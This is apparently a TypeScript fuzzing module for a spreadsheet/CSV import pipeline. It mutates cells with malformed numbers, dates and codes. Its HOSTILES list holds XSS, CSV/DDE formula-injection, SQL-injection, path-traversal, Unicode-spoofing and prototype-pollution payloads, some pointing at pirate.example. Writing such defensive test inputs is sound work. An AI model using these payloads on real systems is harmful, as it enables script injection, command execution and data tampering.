import type { Random } from '../../generator/random.ts';
import { enOctets, libre, surFeuille, type Operateur } from './types.ts';

const NOMBRES = [
  ...[
    '-5',
    '-0',
    '101',
    '100.5',
    '999999999',
    '1000000000',
    '99999999999999999999',
    '1e3',
    '1E-2',
    '12,5',
    '12.5',
    '12.50',
    '30.0',
  ],
  ...[
    '1 234',
    '1\u00a0234',
    '1\u202f234',
    '1.234,5',
    '1,234.5',
    '٣٤',
    '３４',
    '0x1F',
    'NaN',
    'Infinity',
    '30 %',
    '½',
    '+7',
    "'12",
    '012',
  ],
  ...[
    'nd',
    'ND',
    'NA',
    'ns',
    '-',
    '*',
    '**',
    '17 **',
    '17**',
    '82 *',
    'null',
    'NULL',
    '#N/A',
    '#REF!',
    '#DIV/0!',
    'true',
  ],
];
const DATES = [
  ...[
    '31/02/2024',
    '2024-02-30',
    '2024-13-01',
    '01/13/2024',
    '00/00/0000',
    '01/09/0021',
    '45536',
    '1/9/2024',
    '2024-09-01T00:00:00.000Z',
  ],
  ...[
    '01-09-2024',
    '01/09/24',
    '9999-12-31',
    '0000-01-01',
    '2024',
    '2O24',
    '2024_2023',
    '2024-2025',
    'cumul 2023-2024',
    '1970',
    '2099',
  ],
];
const CODES = [
  '4,0033E+07',
  '4.0033E7',
  '00000000',
  '99999999',
  '=A1',
  '0000000A',
  'all',
  'null',
  '4003300',
  '400330033',
  '４００３３００３',
];

/** Labels that attack whoever shows them: pages, drawings, spreadsheets, search, the eye. */
export const HOSTILES = [
  '<script>window.pirate=1</script>',
  '"><img src=x onerror="window.pirate=1">',
  "'><svg/onload=window.pirate=1>",
  '</script><script>window.pirate=1</script>',
  '</style><style>*{display:none}</style>',
  '</title><base href="https://pirate.example/">',
  ']]><x/>',
  '<!--',
  '--><script>window.pirate=1</script>',
  '&lt;b&gt;&amp;&#60;script&#62;',
  '{{constructor.constructor("window.pirate=1")()}}',
  '${window.pirate=1}',
  'javascript:window.pirate=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://pirate.example/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '../../../etc/passwd',
  '..\\..\\windows',
  'a\u202egnp.exe',
  '\u2066droite\u2069',
  'Bou\u200blan\u200dger\ufeff',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\u{1f469}\u200d\u{1f373}\u{1f1eb}\u{1f1f7}',
  '\ud83d',
  'a\u0000b',
  'a\u001b[31mb',
  'a\u2028b\u2029c',
  'a\u0085b',
  '\ufffe\uffff',
  "Robert'); drop table raw.n_mef;--",
  "' || (select 1) || '",
  '$seuil',
  '%00%0a%0d',
  '__proto__',
  'constructor',
  'CON',
  '.',
  '..',
  '   ',
  '"',
  '""',
  '"a"b"',
  '\\',
  'null',
];

/** Puts a text in one cell, between quotes when `quoted` says so. */
function remplacer(
  octets: Buffer,
  random: Random,
  texte: (cell: string) => string | undefined,
  wanted = /^/,
): Buffer | undefined {
  return surFeuille(octets, ({ entete, rangees }) => {
    const at = random.int(0, rangees.length - 1);
    const row = rangees[at] ?? [];
    const columns = row.flatMap((cell, index) => (wanted.test(cell) ? index : []));
    if (columns.length === 0) return undefined;
    const column = random.pick(columns);
    const text = texte(row[column] ?? '');
    return text === undefined ? undefined : { entete, rangees: rangees.with(at, row.with(column, enOctets(text))) };
  });
}

const CHIFFRES = /^"?-?\d{1,4}(?:[.,]\d+)?"?\r?$/;
const JOUR = /\d{4}-\d\d-\d\d|\d\d\/\d\d\/\d{4}|^(?:cumul )?20\d\d/;
const CODE = /^"?[0-9]{6,11}[A-Z]?"?$/;
const LETTRES = /[A-Za-z]{4}/;

const quoteIfNeeded = (texte: string): string => (/[;|,"\n]/.test(texte) ? `"${texte.replaceAll('"', '""')}"` : texte);

/** What a person or a spreadsheet writes in one cell. */
export const OPERATEURS_DE_CELLULES: readonly Operateur[] = [
  libre('chiffre changé', (octets, random) =>
    remplacer(octets, random, (cell) => cell.replace(/\d/, () => String(random.int(0, 9))), /\d/),
  ),
  libre('nombre étrange', (octets, random) => remplacer(octets, random, () => random.pick(NOMBRES), CHIFFRES)),
  libre('date étrange', (octets, random) => remplacer(octets, random, () => random.pick(DATES), JOUR)),
  libre('code étrange', (octets, random) => remplacer(octets, random, () => random.pick(CODES), CODE)),
  libre('zéro de tête perdu', (octets, random) => remplacer(octets, random, (cell) => cell.replace(/^0+/, ''), /^0\d/)),
  libre('code mal tapé', (octets, random) =>
    remplacer(
      octets,
      random,
      (cell) => cell.replace(/^(\d*)\d/, (_, debut: string) => `${debut}${random.pick(['O', 'I', ' ', '\u200b', ''])}`),
      CODE,
    ),
  ),
  libre('cellule vidée', (octets, random) => remplacer(octets, random, () => random.pick(['', ' ', '\u00a0']), /./)),
  libre('texte hostile', (octets, random) =>
    remplacer(octets, random, () => quoteIfNeeded(random.pick(HOSTILES)), LETTRES),
  ),
  libre('texte hostile brut', (octets, random) => remplacer(octets, random, () => random.pick(HOSTILES))),
  libre('texte hostile ajouté', (octets, random) =>
    remplacer(
      octets,
      random,
      (cell) => `${Buffer.from(cell, 'latin1').toString('utf8')}${random.pick(HOSTILES).replace(/[;|,"]/g, '')}`,
      LETTRES,
    ),
  ),
  libre('cellule énorme', (octets, random) =>
    remplacer(octets, random, () => random.pick(['a', '9', 'é ', '<b>']).repeat(random.pick([300, 5_000, 100_000]))),
  ),
  libre('saut de ligne dans une cellule', (octets, random) =>
    remplacer(
      octets,
      random,
      (cell) => `"${cell.replaceAll('"', '').slice(0, 3)}\n${cell.replaceAll('"', '').slice(3)}"`,
      LETTRES,
    ),
  ),
  libre('guillemet', (octets, random) =>
    remplacer(
      octets,
      random,
      (cell) => random.pick([`"${cell}`, `${cell}"`, `"${cell}"x`, cell.replace(/(.)/, '$1"')]),
      /^[^"]+$/,
    ),
  ),
];
